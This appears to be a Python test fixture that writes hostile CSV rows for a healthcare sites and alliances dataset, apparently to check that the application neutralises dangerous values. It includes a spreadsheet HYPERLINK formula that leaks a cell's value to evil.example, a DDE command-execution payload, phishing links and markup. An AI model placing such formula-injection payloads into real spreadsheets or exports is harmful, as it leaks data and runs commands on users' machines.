"""Hostile text for tests: names a spreadsheet would run, links, very long names, in a tiny db."""

from __future__ import annotations

import csv
from pathlib import Path

from tests.conftest import write_data_dir

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
DDE = "=cmd|' /C calc'!A0"
URL = "http://evil.example/phish"
LINK_NAME = f"联盟详情见 {URL} 点此"
MARKDOWN_NAME = "[点我](http://evil.example/md) **粗体** <b>x</b>"
SPECIALTY = "妇产科 www.evil.example"
LONG_NAME = "很长的名字" * 38  # 190 characters: allowed, but wider than any layout


def _write(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)


def hostile_data_dir(path: Path) -> Path:
    """The tiny data folder with hostile names on its real sites and alliances."""
    data = write_data_dir(path)
    real = data / "real"
    _write(
        real / "sites.csv",
        [
            ["site_id", "name", "kind", "tier", "ownership", "county_adcode", "lon", "lat"]
            + ["beds", "source"],
            ["R-S001", DDE, "maternal_child", "3A", "public", "310101", "", "", "", "article:900"],
            [
                "R-S002",
                LINK_NAME,
                "maternal_child",
                "2",
                "public",
                "330822",
                "",
                "",
                "",
                "article:900",
            ],
            [
                "R-S003",
                LONG_NAME,
                "general",
                "unrated",
                "private",
                "620102",
                "103.85",
                "36.05",
                "",
                "article:900",
            ],
        ],
    )
    header = ["alliance_id", "name", "form", "specialty", "scope", "model", "founded_on"]
    header += ["lead_site_id", "parent_alliance_id", "note", "source"]
    _write(
        real / "alliances.csv",
        [
            header,
            [
                "R-A01",
                HYPERLINK,
                "specialist",
                SPECIALTY,
                "cross_province",
                "X+1+9+X",
                "2017-06-04",
                "R-S001",
                "",
                f"备注 {URL}",
                "article:900",
            ],
        ],
    )
    return data
